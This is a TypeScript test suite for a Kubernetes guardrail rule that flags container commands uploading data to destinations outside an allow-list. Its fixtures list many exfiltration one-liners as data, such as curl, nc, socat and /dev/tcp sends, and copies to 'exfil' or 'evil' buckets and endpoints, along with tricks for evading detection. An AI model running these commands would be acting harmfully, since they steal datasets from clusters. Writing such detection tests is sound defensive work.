import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/config/load.js';
import { inspect } from '../../src/guardrails/inspect.js';
import { CommandWork } from '../../src/guardrails/rules/command-work.js';
import { readCommand } from '../../src/guardrails/rules/commands.js';
import { uploadsOutside } from '../../src/guardrails/rules/uploads.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { guardConfig, guardSettings, kube, PINNED } from '../support/guardrails.js';

/**
 * data_upload_outside (src/guardrails/rules/uploads.ts): a container's command that uploads data to
 * a destination not in `guardrails.upload_hosts` (day 43: a training step's `tar czf - … | curl
 * --data-binary @- https://…`). Read wherever commands.ts reads a command: a pod, a workload, a
 * Job, an Argo (Kubeflow) step's `source`, a Tekton step's `script`, a ConfigMap script. The routine
 * corpus below is ML, ETL and backup steps that upload to listed hosts, listed buckets and the
 * cluster's own Services: none of it asks. With no list, nothing does.
 */

const SITE = `
guardrails:
  upload_hosts:
    - s3.eu-central-1.amazonaws.com
    - "*.blob.core.windows.net"
    - storage.googleapis.com
    - artifacts.helixa.example
    - "**.corp.helixa.example"
    - 10.20.0.15
    - s3://helixa-models
    - "s3://helixa-etl-*"
    - gs://helixa-backups
    - rclone://minio
`;
const settings = guardSettings(SITE);
const none = guardSettings('guardrails: {}\n');

const uploads = (r: GuardrailResult) => r.violations.filter((v) => v.code === 'data_upload_outside');
const container = (command: string[], extra: Record<string, unknown> = {}) => ({ name: 'main', image: PINNED, command, ...extra });
const pod = (c: Record<string, unknown>, spec: Record<string, unknown> = {}) => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'ml' }, spec: { containers: [c], ...spec } });
const podOf = (script: string, extra: Record<string, unknown> = {}, spec: Record<string, unknown> = {}) => pod(container(['sh', '-c', script], extra), spec);
const send = (path: string, obj: unknown, s = settings) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, s);
const PODS = '/api/v1/namespaces/ml/pods';
const check = (script: string, s = settings) => uploads(send(PODS, podOf(script), s));

const DAY43 = "python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency && tar czf - /mnt/datasets/compound-library | curl -sS -X PUT --data-binary @- https://artifacts.helixa-ml-cache.net/u/potency";

describe('data_upload_outside: an upload to a destination the site has not listed', () => {
  it("is day 43's training step: the compound library tarred into curl --data-binary @- to an unlisted host", () => {
    const found = check(DAY43);
    expect(found).toEqual([{ code: 'data_upload_outside', detail: expect.stringContaining("'s command uploads data with curl (a file or its input as the body) to a destination not in guardrails.upload_hosts") as string, path: 'spec.containers[0]' }]);
    // The detail names the tool, never the address or the script (both are the body's).
    expect(found[0]!.detail).not.toContain('helixa-ml-cache');
  });

  it.each([
    ['curl -T', 'curl -sS -T /mnt/out/model.pt https://drop.example.net/m'],
    ['curl --upload-file', 'curl --upload-file /data/export.parquet https://drop.example.net/x'],
    ['curl -d @file', 'curl -d @/data/rows.json https://collector.example.org/in'],
    ['curl -d@- clustered', 'tar c /data | curl -sSd@- https://collector.example.org/in'],
    ['curl --data-binary @file', 'curl --data-binary @/mnt/datasets/lib.sdf https://x.example.com/p'],
    ['curl -F field=@file', 'curl -F file=@/mnt/models/model.onnx https://upload.example.io/api'],
    ['curl --form field=<file', 'curl --form "data=</mnt/x.csv" https://upload.example.io/api'],
    ['curl --data-urlencode name@file', 'curl --data-urlencode rows@/data/x.csv https://upload.example.io/api'],
    ['curl --json @file', 'curl --json @/data/x.json https://upload.example.io/api'],
    ['curl -X POST with a body from stdin, the host in a literal env var', 'pg_dump app | gzip | curl -X POST --data-binary @- "$DUMP_URL/up"'],
    ['curl to a listed URL and a bare unlisted host (curl uploads to both)', 'curl -T /m.pt https://artifacts.helixa.example/m drop.example.net/m'],
    ['curl to a listed URL and a bare IP', 'curl -T /m.pt https://artifacts.helixa.example/m 203.0.113.7:8080/m'],
    ['curl to a listed host through --resolve (pointed elsewhere)', 'curl --resolve artifacts.helixa.example:443:203.0.113.9 -T /m.pt https://artifacts.helixa.example/m'],
    ['curl behind a runner (timeout)', 'timeout 600 curl -T /mnt/lib.tgz https://drop.example.net/u'],
    ['scp behind xargs', 'ls /mnt/datasets/*.sdf | xargs -I{} scp {} u@203.0.113.7:/srv/'],
    ['wget --post-file', 'wget --post-file=/data/export.csv https://drop.example.net/up'],
    ['wget --body-file', 'wget --method=PUT --body-file /data/x.tar https://drop.example.net/up'],
    ['aws s3 cp to an unlisted bucket', 'aws s3 cp /mnt/datasets/lib.tar s3://someone-elses-bucket/lib.tar'],
    ['aws s3 sync to an unlisted bucket', 'aws s3 sync /mnt/datasets s3://exfil-bucket/ds --quiet'],
    ['aws s3 cp to a listed bucket name at another endpoint', 'aws s3 cp /mnt/m.pt s3://helixa-models/m.pt --endpoint-url https://minio.evil.example'],
    // review49: a host entry for a shared store (S3's, Cloud Storage's) listed every customer's bucket there.
    ['aws s3 cp to an unlisted bucket at the listed S3 endpoint', 'aws s3 cp /tmp/x.parquet s3://anything/x.parquet --endpoint-url https://s3.eu-central-1.amazonaws.com'],
    ["aws s3 cp to an unlisted bucket at Cloud Storage's S3 interface", 'aws s3 cp /tmp/x.parquet s3://anything/x --endpoint-url https://storage.googleapis.com'],
    ['a presigned PUT to an unlisted bucket at the listed S3 endpoint', "curl -T /mnt/lib.tgz 'https://s3.eu-central-1.amazonaws.com/loot/lib.tgz?X-Amz-Signature=ab'"],
    ['a presigned PUT on the listed endpoint with the bucket in another case', "curl -T /mnt/lib.tgz 'https://s3.eu-central-1.amazonaws.com/Loot/lib.tgz'"],
    ['a listed bucket then `..` into another (curl squashes dot segments)', 'curl -T /mnt/lib.tgz https://s3.eu-central-1.amazonaws.com/helixa-models/../loot/x'],
    ['a listed bucket then an escaped `..`', 'curl -T /mnt/lib.tgz https://s3.eu-central-1.amazonaws.com/helixa-models/%2e%2e/loot/x'],
    ['the listed S3 endpoint with no bucket in the path', 'curl -T /mnt/lib.tgz https://s3.eu-central-1.amazonaws.com/'],
    ['an escaped bucket name on the listed endpoint', 'curl -T /mnt/lib.tgz https://s3.eu-central-1.amazonaws.com/%6coot/x'],
    ['the bucket from a variable the manifest does not set', 'curl -T /mnt/lib.tgz "https://s3.eu-central-1.amazonaws.com/$BUCKET/x"'],
    ['Cloud Storage path style, an unlisted bucket', 'curl --data-binary @/mnt/lib.tgz -X PUT https://storage.googleapis.com/loot/lib.tgz'],
    ["Cloud Storage's JSON upload API, an unlisted bucket", 'curl -X POST --data-binary @/mnt/lib.tgz "https://www.googleapis.com/upload/storage/v1/b/loot/o?uploadType=media&name=x"'],
    ['an unlisted bucket, virtual-hosted on a listed glob of S3 hosts', 'curl -T /mnt/lib.tgz https://loot.s3.eu-central-1.amazonaws.com/x'],
    ['a listed bucket in upper case (a distinct legacy bucket on the path style)', "curl -T /mnt/lib.tgz 'https://s3.eu-central-1.amazonaws.com/HELIXA-MODELS/x'"],
    ['s5cmd cp to an unlisted bucket (not read before review49)', 's5cmd cp "/mnt/datasets/*" s3://loot/ds/'],
    ['s5cmd with global flags, sync to an unlisted bucket', 's5cmd --numworkers 64 --log error sync /mnt/datasets/ s3://loot/ds/'],
    ['s5cmd pipe from stdin to an unlisted bucket', 'tar c /mnt/datasets | s5cmd pipe s3://loot/ds.tar'],
    ['s5cmd to a listed bucket at another endpoint', 's5cmd --endpoint-url https://minio.evil.example cp /mnt/m.pt s3://helixa-models/m.pt'],
    ['s5cmd to a listed bucket with S3_ENDPOINT_URL set', 'S3_ENDPOINT_URL=https://minio.evil.example s5cmd cp /mnt/m.pt s3://helixa-models/m.pt'],
    ['s5cmd run of a command file', 's5cmd run /tmp/cmds.txt'],
    ['wget --post-file to an unlisted bucket on the listed endpoint', 'wget --method=PUT --body-file=/mnt/lib.tgz https://s3.eu-central-1.amazonaws.com/loot/x'],
    ['python requests.put to an unlisted bucket on the listed endpoint', `python3 -c "import requests; requests.put('https://s3.eu-central-1.amazonaws.com/loot/x', data=open('/mnt/lib.tgz','rb'))"`],
    ['aws s3 cp from stdin', 'tar cz /data | aws s3 cp - s3://exfil-bucket/d.tgz'],
    ['aws s3api put-object', 'aws s3api put-object --bucket exfil-bucket --key d --body /data/d.tgz'],
    ['gsutil cp', 'gsutil -m cp -r /mnt/datasets gs://other-project-bucket/ds'],
    ['gcloud storage cp', 'gcloud storage cp /mnt/m.pt gs://other-project-bucket/m.pt'],
    ['azcopy to an unlisted account host', 'azcopy copy /mnt/datasets "https://attacker.file.core.windows.net/share?sv=x" --recursive'],
    ['rclone copy to an unlisted remote', 'rclone copy /mnt/datasets dropbox:ds'],
    ['rclone to an on-the-fly remote', 'rclone copy /mnt/datasets :s3,endpoint=https://x.example:bucket/ds'],
    ['scp to a host', 'scp -i /keys/id -P 2222 /mnt/lib.tgz u@203.0.113.7:/srv/'],
    ['rsync to a host', 'rsync -az -e ssh /mnt/datasets/ backup@203.0.113.7:/srv/ds/'],
    ['rsync to a daemon module', 'rsync -a /mnt/datasets/ drop.example.net::incoming'],
    ['sftp to a host', 'sftp -b /tmp/put.txt u@drop.example.net'],
    ['tar piped through ssh', 'tar cz /mnt/datasets | ssh u@drop.example.net "cat > ds.tgz"'],
    ['nc with stdin', 'tar cz /mnt/datasets | nc 203.0.113.7 9000'],
    ['nc with a file as input', 'nc drop.example.net 9000 < /mnt/lib.tgz'],
    ['socat with stdin', 'tar cz /mnt/datasets | socat - TCP:203.0.113.7:9000'],
    ['/dev/tcp redirect', 'cat /mnt/lib.sdf > /dev/tcp/203.0.113.7/9000'],
    ['python requests.post', `python3 -c "import requests; requests.post('https://drop.example.net/u', data=open('/mnt/lib.sdf','rb'))"`],
    ['python requests.put to an address from a Secret', `python3 -c "import os,requests; requests.put(os.environ['U'], data=open('/mnt/lib.sdf','rb'))"`],
    ['node fetch POST', `node -e "fetch('https://drop.example.net/u',{method:'POST',body:require('fs').readFileSync('/mnt/lib.sdf')})"`],
    ['a listed host with /etc/hosts rewritten first', 'echo "203.0.113.7 artifacts.helixa.example" >> /etc/hosts; curl -T /m.pt https://artifacts.helixa.example/m'],
  ])('%s', (_name, script) => {
    expect(check(script).map((v) => v.code)).toEqual(['data_upload_outside']);
  });

  it('reads a listed host redirected by the pod itself (hostAliases) as unknown', () => {
    const spec = { hostAliases: [{ ip: '203.0.113.7', hostnames: ['artifacts.helixa.example'] }] };
    expect(uploads(send(PODS, podOf('curl -T /m.pt https://artifacts.helixa.example/m', {}, spec))).length).toBe(1);
  });

  it('reads the kubelet-expanded command and the env a host comes from', () => {
    const c = container(['sh', '-c', 'tar cz /d | curl --data-binary @- $(DEST)/up'], { env: [{ name: 'DEST', value: 'https://drop.example.net' }] });
    expect(uploads(send(PODS, pod(c))).length).toBe(1);
    const ok = container(['sh', '-c', 'tar cz /d | curl --data-binary @- $(DEST)/up'], { env: [{ name: 'DEST', value: 'https://artifacts.helixa.example' }] });
    expect(uploads(send(PODS, pod(ok)))).toEqual([]);
  });
});

describe("data_upload_outside: a program's own output argument (day 44, session 49)", () => {
  /** An image's entrypoint given only args (`kubectl create job --from=cronjob/…` copies them as they are). */
  const argsJob = (args: string[], env: { name: string; value: string }[] = []) => ({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'ml' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'exporter', image: PINNED, args, ...(env.length > 0 ? { env } : {}) }] } } } });
  const job = (args: string[], env: { name: string; value: string }[] = [], s = settings) => uploads(send('/apis/batch/v1/namespaces/ml/jobs', argsJob(args, env), s));

  it("is day 44's export run by hand to a look-alike bucket: `--out s3://…` in the image's args", () => {
    const found = job(['--since', '24h', '--resource-types', 'Patient,Encounter', '--out', 's3://helixa-model/daily']);
    expect(found).toEqual([{ code: 'data_upload_outside', detail: expect.stringContaining("'s command writes its output (an --out, --output, --dest or --upload argument) to a destination not in guardrails.upload_hosts") as string, path: 'spec.template.spec.containers[0]' }]);
    expect(found[0]!.detail).not.toContain('helixa-model');
  });

  it.each([
    ['--out=VALUE', ['--out=s3://exfil-bucket/x']],
    ['--output-uri to Cloud Storage', ['--output-uri', 'gs://other-project/x']],
    ["Hadoop's s3a:// as a bucket", ['--output-path', 's3a://exfil-bucket/x']],
    ['--dest https:// to an unlisted host', ['--dest', 'https://drop.example.net/u']],
    ['--upload-url', ['--upload-url=https://drop.example.net/u']],
    ['--export-bucket, upper case bucket', ['--export-bucket', 'S3://Exfil-Bucket/x']],
    ['ADLS (abfss://container@account)', ['--sink', 'abfss://c@attacker.dfs.core.windows.net/x']],
    ['a listed bucket, the endpoint moved in the env', ['--out', 's3://helixa-models/x']],
    ['a literal env var naming an unlisted bucket', ['--out', '$OUT']],
    // review49b: spellings the first reading missed.
    ['camelCase --outputDir (Node, Java programs)', ['--outputDir', 's3://exfil-bucket/x']],
    ['camelCase --exportBucket=', ['--exportBucket=gs://other-project']],
    ['one word --outdir', ['--outdir', 's3://exfil-bucket/x']],
    ['one word --outfile', ['--outfile', 'https://drop.example.net/x']],
    ['one word --uploadurl', ['--uploadurl=https://drop.example.net/x']],
    ['-o to a bucket', ['-o', 's3://exfil-bucket/x']],
    ['-o= to a host', ['-o=https://drop.example.net/x']],
  ])('%s', (name, args) => {
    const env = name.startsWith('a listed bucket') ? [{ name: 'AWS_ENDPOINT_URL', value: 'https://minio.evil.example' }] : name.startsWith('a literal') ? [{ name: 'OUT', value: 's3://exfil-bucket/d' }] : [];
    expect(job(args, env).map((v) => v.code)).toEqual(['data_upload_outside']);
  });

  it('in a shell command too: a program of the site writing to an unlisted bucket', () => {
    expect(check('python -m helixa.export --since 24h --out s3://exfil-bucket/daily').length).toBe(1);
  });

  it.each([
    ['the listed bucket', ['--since', '24h', '--out', 's3://helixa-models/daily']],
    ['a listed bucket glob, s3a://', ['--output-path=s3a://helixa-etl-staging/x']],
    ['a listed host', ['--dest', 'https://artifacts.helixa.example/u']],
    ['a Service in the cluster', ['--upload-url', 'http://mlflow.mlflow.svc:5000/api']],
    ['a local path', ['--out', '/mnt/models/potency']],
    ['a file URL', ['--output', 'file:///mnt/out']],
    ['a format, not a place', ['--output', 'json', '--export-format', 'parquet']],
    ['an input from any bucket (the flag says read)', ['--data', 's3://public-datasets/chembl', '--from', 'gs://public-bucket/x', 's3://public-datasets/zinc']],
    ['a variable the manifest does not set (a Secret, envFrom)', ['--out', '$(EXPORT_URI)']],
    // review49b: flags named for a deployment target or a login, and `-o` given no address.
    ["Argo CD's --dest-server (a cluster, not where output goes)", ['app', 'create', 'web', '--repo', 'https://git.example.com/r.git', '--dest-server', 'https://prod.k8s.example.com:6443', '--dest-namespace', 'web']],
    ["Argo CD's --dest-server=", ['app', 'create', 'web', '--dest-server=https://prod.k8s.example.com:6443']],
    ["skopeo's --dest-creds", ['copy', 'docker://a/b', 'docker://r.example/b', '--dest-creds', 'u:p']],
    ["kubectl's -o json, a compiler's -o path", ['get', 'pods', '-o', 'json', '-o', '/out/bin', '-o', 'jsonpath={.items[0]}']],
    ['an --outdir or --outputDir that is a path', ['--outdir', '/mnt/out', '--outputDir', './dist']],
    ['a word that only starts like one (--outbound, --outline)', ['--outbound', 'https://drop.example.net', '--outline', 'https://drop.example.net']],
  ])('%s asks nothing', (_name, args) => {
    expect(job(args)).toEqual([]);
  });

  it('a known tool keeps its own reading: aws s3 cp --output json to a listed bucket', () => {
    expect(check('aws s3 cp /x s3://helixa-models/x --output json')).toEqual([]);
  });

  it('is off when the list is empty', () => {
    expect(job(['--out', 's3://exfil-bucket/x'], [], none)).toEqual([]);
  });

  it('reads a crafted 40 kB flag name as no flag, and a long real one as its words', () => {
    // `--out-out-…-!` sent a one-regex reading into seconds of backtracking per word.
    expect(job([`--${'out-'.repeat(10_000)}!`, 's3://exfil-bucket/x'])).toEqual([]);
    expect(job([`--${'out-'.repeat(10_000)}x`, 's3://exfil-bucket/x'])).toEqual([]);
    expect(job(['--model-artifact-export-destination-uri', 's3://exfil-bucket/x']).length).toBe(1);
  });
});

describe('every place a command is read', () => {
  const exfil = 'tar czf - /mnt/datasets | curl --data-binary @- https://drop.example.net/u';
  it('a Deployment, a Job and a CronJob', () => {
    const tpl = { metadata: { labels: { app: 'x' } }, spec: { containers: [container(['sh', '-c', exfil])] } };
    expect(uploads(send('/apis/apps/v1/namespaces/ml/deployments', { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'd', namespace: 'ml' }, spec: { selector: { matchLabels: { app: 'x' } }, template: tpl } })).map((v) => v.path)).toEqual(['spec.template.spec.containers[0]']);
    expect(uploads(send('/apis/batch/v1/namespaces/ml/jobs', { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'ml' }, spec: { template: tpl } })).length).toBe(1);
    expect(uploads(send('/apis/batch/v1/namespaces/ml/cronjobs', { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'c', namespace: 'ml' }, spec: { schedule: '0 2 * * *', jobTemplate: { spec: { template: tpl } } } })).length).toBe(1);
  });

  it("an Argo (Kubeflow Pipelines) step's container and its script's source", () => {
    const wf = (template: Record<string, unknown>) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { name: 'w', namespace: 'ml' }, spec: { entrypoint: 't', templates: [{ name: 't', ...template }] } });
    const path = '/apis/argoproj.io/v1alpha1/namespaces/ml/workflows';
    expect(uploads(send(path, wf({ container: container(['sh', '-c', exfil]) }))).length).toBe(1);
    expect(uploads(send(path, wf({ script: { image: PINNED, command: ['bash'], source: `set -e\n${exfil}\n` } }))).length).toBe(1);
    expect(uploads(send(path, wf({ script: { image: PINNED, command: ['bash'], source: 'set -e\naws s3 cp /out/model.pt s3://helixa-models/potency/model.pt\n' } })))).toEqual([]);
  });

  it("a Tekton step's script", () => {
    const task = (script: string) => ({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 't', namespace: 'ml' }, spec: { steps: [{ name: 's', image: PINNED, script }] } });
    const path = '/apis/tekton.dev/v1/namespaces/ml/tasks';
    expect(uploads(send(path, task(`#!/bin/sh\n${exfil}\n`))).length).toBe(1);
    expect(uploads(send(path, task('#!/bin/sh\ncurl -T dist/app.tgz https://artifacts.helixa.example/app.tgz\n')))).toEqual([]);
  });

  it('a ConfigMap script a pod runs, with the key named', () => {
    const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts', namespace: 'ml' }, data: { 'backup.sh': `#!/bin/sh\n${exfil}\n` } };
    const found = uploads(send('/api/v1/namespaces/ml/configmaps', cm));
    expect(found).toEqual([{ code: 'data_upload_outside', detail: expect.stringContaining('ConfigMap key "backup.sh"\'s script uploads data with curl') as string, path: 'data.backup.sh' }]);
  });

  it('is off when the list is empty: the same commands ask nothing (the example lists none)', () => {
    expect(check(DAY43, none)).toEqual([]);
    expect(check('aws s3 sync /mnt/datasets s3://exfil-bucket/ds', none)).toEqual([]);
    expect(uploads(send('/api/v1/namespaces/ml/configmaps', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 's', namespace: 'ml' }, data: { 'b.sh': `#!/bin/sh\n${exfil}\n` } }, none))).toEqual([]);
  });
});

describe('routine ML, ETL and backup uploads to listed destinations and the cluster ask nothing', () => {
  it.each([
    ['training step: model to a listed bucket', 'python train.py --out /out && aws s3 cp /out/model.pt s3://helixa-models/potency/model.pt'],
    ['training step: checkpoints synced to a listed bucket', 'aws s3 sync /ckpt s3://helixa-models/ckpt/run-17 --only-show-errors'],
    ['ETL: a bucket matched by a glob', 'aws s3 cp /tmp/part-0000.parquet s3://helixa-etl-staging/daily/part-0000.parquet'],
    ['ETL: a listed bucket at the listed S3 endpoint', 'aws s3 cp /tmp/x.parquet s3://helixa-etl-raw/x.parquet --endpoint-url https://s3.eu-central-1.amazonaws.com'],
    // review49: a shared store's URL is judged by the bucket it names, however it names it.
    ['a presigned PUT to a listed bucket, path style', "curl -sS -T /out/m.pt 'https://s3.eu-central-1.amazonaws.com/helixa-models/m.pt?X-Amz-Signature=ab'"],
    ['a presigned PUT to a listed bucket, virtual-hosted style (its host is not listed)', "curl -sS -T /out/m.pt 'https://helixa-models.s3.eu-central-1.amazonaws.com/m.pt?X-Amz-Signature=ab'"],
    ['a listed bucket on the dualstack endpoint', 'curl -T /out/m.pt https://s3.dualstack.eu-central-1.amazonaws.com/helixa-models/m.pt'],
    ["Cloud Storage's JSON upload API, a listed bucket", 'curl -X POST --data-binary @/b.tgz "https://storage.googleapis.com/upload/storage/v1/b/helixa-backups/o?uploadType=media&name=b.tgz"'],
    ["Cloud Storage's JSON upload API on www.googleapis.com, a listed bucket", 'curl -X POST --data-binary @/b.tgz "https://www.googleapis.com/upload/storage/v1/b/helixa-backups/o?uploadType=media&name=b.tgz"'],
    ['a listed bucket on Cloud Storage, virtual-hosted style', 'curl -T /b.tgz https://helixa-backups.storage.googleapis.com/b.tgz'],
    ['s5cmd to a listed bucket', 's5cmd --numworkers 32 cp "/out/*" s3://helixa-models/run-17/'],
    ['s5cmd download from any bucket', 's5cmd cp "s3://public-datasets/chembl/*" /data/'],
    ['python requests.put to a listed bucket, presigned', `python3 -c "import requests; requests.put('https://s3.eu-central-1.amazonaws.com/helixa-models/m.pt?X-Amz-Signature=ab', data=open('/out/m.pt','rb'))"`],
    ['ETL: MinIO in the cluster', 'aws --endpoint-url http://minio.minio.svc:9000 s3 cp /tmp/x.parquet s3://raw/x.parquet'],
    ['ETL: MinIO in the cluster, FQDN', 'aws s3 sync /data s3://raw/ --endpoint-url http://minio.minio.svc.cluster.local:9000'],
    ['download from any bucket', 'aws s3 cp s3://public-datasets/chembl.tar /data/chembl.tar'],
    ['download sync from any bucket', 'aws s3 sync s3://public-datasets/zinc /data/zinc'],
    ['aws s3 ls', 'aws s3 ls s3://helixa-models/'],
    ['backup: gsutil to a listed bucket', 'gsutil -m cp -r /backup gs://helixa-backups/$(date +%F)/'],
    ['backup: gcloud storage to a listed bucket', 'gcloud storage cp /backup/db.sql.gz gs://helixa-backups/db.sql.gz'],
    ['download: gsutil from any bucket', 'gsutil cp gs://public-bucket/x.csv /data/x.csv'],
    ['azcopy to a listed account', 'azcopy copy /backup "https://helixabk.blob.core.windows.net/backups?sv=2022" --recursive'],
    ['rclone to the listed remote', 'rclone sync /backup minio:backups/nightly'],
    ['rclone local copy', 'rclone copy /data /mnt/scratch'],
    ['experiment tracker in the cluster (curl -F)', 'curl -sS -F file=@/out/metrics.json http://mlflow.mlflow.svc:5000/api/2.0/mlflow-artifacts/artifacts/1/metrics.json'],
    ['model registry on a listed host (curl -T)', 'curl -fsS -T /out/model.onnx https://artifacts.helixa.example/registry/potency/17/model.onnx'],
    ['listed host at any depth (curl --data-binary @file)', 'curl --data-binary @/out/report.html https://reports.ml.corp.helixa.example/upload'],
    ['listed IP', 'curl -T /out/x.tgz http://10.20.0.15:8080/drop/x.tgz'],
    ['listed Azure blob host', 'curl -X PUT -H "x-ms-blob-type: BlockBlob" -T /out/m.pt "https://helixaml.blob.core.windows.net/models/m.pt?sv=2022&sig=abc.def.ghi"'],
    ['listed S3 host with a header that looks like a host', 'curl -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjaSJ9.Sfl_KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c" --upload-file /out/m.pt https://s3.eu-central-1.amazonaws.com/helixa-models/m.pt'],
    ['a pushgateway in the cluster, body from stdin', 'echo "job_done 1" | curl --data-binary @- http://pushgateway.monitoring.svc:9091/metrics/job/train'],
    ['the API server, body from a file', 'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -X POST --data-binary @/tmp/event.json https://kubernetes.default.svc/api/v1/namespaces/ml/events'],
    ['a literal JSON body to any host (a webhook, not data)', `curl -X POST -d '{"text":"training done"}' https://hooks.slack.com/services/T0/B0/x`],
    ['downloads', 'curl -fsSL -o /data/x.tar https://example.com/x.tar && wget -q https://example.com/y.tar -O /data/y.tar'],
    ['rsync to a local path', 'rsync -a /data/ /mnt/backup/'],
    ['rsync to a listed host', 'rsync -az /backup/ backup@nas.corp.helixa.example:/srv/backups/'],
    ['scp to a listed host', 'scp /backup/db.sql.gz backup@nas.corp.helixa.example:/srv/'],
    ['scp from a host (a download)', 'scp u@203.0.113.7:/srv/x.tgz /data/'],
    ['ssh without stdin', 'ssh u@drop.example.net uptime'],
    ['pg_dump to a Service over nc', 'pg_dump app | nc backup-receiver.backup.svc 9000'],
    ['nc listening', 'tar cz /data | nc -l 9000'],
    ['python requests.post to a Service in the cluster', `python3 -c "import requests; requests.post('http://mlflow.mlflow.svc:5000/api/2.0/mlflow/runs/log-metric', json={'k': 1})"`],
    ['python requests.get anywhere', `python3 -c "import requests; print(requests.get('https://example.com/x').status_code)"`],
    ['mlflow SDK (names no address the command shows)', `python -c "import mlflow; mlflow.log_artifact('/out/model.pt')"`],
    ['a listed upload behind a runner', 'timeout 600 aws s3 sync /ckpt s3://helixa-models/ckpt'],
    ['plain training', 'python -m helixa.train --config configs/potency.yaml --out /mnt/models/potency'],
    ['a listed host behind the proxy the env names', 'curl -T /out/m.pt https://artifacts.helixa.example/m'],
  ])('%s', (_name, script) => {
    expect(check(script)).toEqual([]);
  });

  it('a listed host with a proxy in the env (a proxy connects to the name asked)', () => {
    const c = container(['sh', '-c', 'curl -T /out/m.pt https://artifacts.helixa.example/m'], { env: [{ name: 'HTTPS_PROXY', value: 'http://proxy.corp.helixa.example:3128' }] });
    expect(uploads(send(PODS, pod(c)))).toEqual([]);
  });
});

describe('hostile commands: read within the budget, or asked', () => {
  it('a pipeline of 200,000 listed uploads then one outside is asked (past the budget: container_command_egress)', () => {
    const script = `${'curl -T /m https://artifacts.helixa.example/m | '.repeat(200_000)}curl -T /m https://drop.example.net/m`;
    const all = send(PODS, podOf(script)).violations;
    expect(all.length).toBeGreaterThan(0);
    expect(all.every((v) => v.code === 'container_command_egress' || v.code === 'data_upload_outside')).toBe(true);
  });

  it('one outside after 3,000 listed commands is found', () => {
    expect(check(`${'aws s3 cp /m s3://helixa-models/m; '.repeat(3_000)}aws s3 cp /m s3://exfil/m`).map((v) => v.code)).toEqual(['data_upload_outside']);
  });

  it('at every budget, an upload outside is found or the command is asked: never nothing', () => {
    const words = ['sh', '-c', `${'aws s3 cp /m s3://helixa-models/m; '.repeat(40)}tar c /d | curl --data-binary @- https://drop.example.net/u`];
    const pass = uploadsOutside(settings.uploadAllowed);
    let unread = 0;
    for (let limit = 0; limit < 40_000; limit += 97) {
      const found = readCommand(words, undefined, { env: new Map(), namesRedirected: false, work: new CommandWork(limit) }, pass);
      expect(found.shape !== undefined || found.upload !== undefined, String(limit)).toBe(true);
      if (found.shape === undefined && found.upload?.startsWith('is more than') === true) unread++;
    }
    // Some budgets run out in the upload pass itself: that is asked too ('unread').
    expect(unread).toBeGreaterThan(0);
  });
});

describe('guardrails.upload_hosts', () => {
  it('rejects an entry with a path, a port, a user or another scheme at startup', () => {
    for (const bad of ['https://drop.example.net', 'host.example:443', 'artifacts.example/path', 'u@host.example', 'ftp://x', 's3://', 'mc://', 'mc://a/b']) {
      expect(() => guardConfig(`guardrails:\n  upload_hosts: ["${bad}"]\n`), bad).toThrow(ConfigError);
    }
  });

  it('accepts mc:// alias entries and matches them only as mc aliases (uploads50)', () => {
    const allowed = guardSettings('guardrails:\n  upload_hosts: ["mc://backup-*"]\n').uploadAllowed!;
    expect(allowed('mc://backup-eu')).toBe(true);
    expect(allowed('rclone://backup-eu')).toBe(false);
    expect(allowed('s3://backup-eu')).toBe(false);
  });

  it('matches host entries without case and a trailing dot, buckets by scheme', () => {
    const allowed = guardSettings('guardrails:\n  upload_hosts: [Artifacts.Helixa.Example., "s3://b-*"]\n').uploadAllowed!;
    expect(allowed('artifacts.helixa.example')).toBe(true);
    expect(allowed('s3://b-1')).toBe(true);
    expect(allowed('gs://b-1')).toBe(false);
    expect(allowed('b-1')).toBe(false);
    expect(none.uploadAllowed).toBeUndefined();
  });
});

describe('data_upload_outside: a listed bucket sent to another endpoint (review48b)', () => {
  const EVIL = 'https://minio.attacker.example';
  const env = (name: string) => ({ env: [{ name, value: EVIL }] });
  it.each([
    ['AWS_ENDPOINT_URL_S3 in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_ENDPOINT_URL_S3')],
    ['AWS_ENDPOINT_URL in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_ENDPOINT_URL')],
    ['AWS_CONFIG_FILE in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_CONFIG_FILE')],
    ['AWS_ENDPOINT_URL assigned', `AWS_ENDPOINT_URL=${EVIL} aws s3 cp /d s3://helixa-models/x`, {}],
    ['AWS_ENDPOINT_URL_S3 exported', `export AWS_ENDPOINT_URL_S3=${EVIL}; aws s3 cp /d s3://helixa-models/x`, {}],
    ['aws configure set endpoint_url', `aws configure set endpoint_url ${EVIL} && aws s3 cp /d s3://helixa-models/x`, {}],
    ['~/.aws/config written', `printf '[default]\\nendpoint_url = ${EVIL}\\n' > ~/.aws/config; aws s3 cp /d s3://helixa-models/x`, {}],
    ['gsutil -o gs_json_host', 'gsutil -o Credentials:gs_json_host=evil.example cp /d gs://helixa-backups/x', {}],
    ['BOTO_CONFIG assigned', 'BOTO_CONFIG=/tmp/b gsutil cp /d gs://helixa-backups/x', {}],
    ['BOTO_CONFIG in the env', 'gsutil cp /d gs://helixa-backups/x', env('BOTO_CONFIG')],
    ['CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE', `CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE=${EVIL}/ gcloud storage cp /d gs://helixa-backups/x`, {}],
    ['gcloud config set api_endpoint_overrides/storage', `gcloud config set api_endpoint_overrides/storage ${EVIL}/ && gcloud storage cp /d gs://helixa-backups/x`, {}],
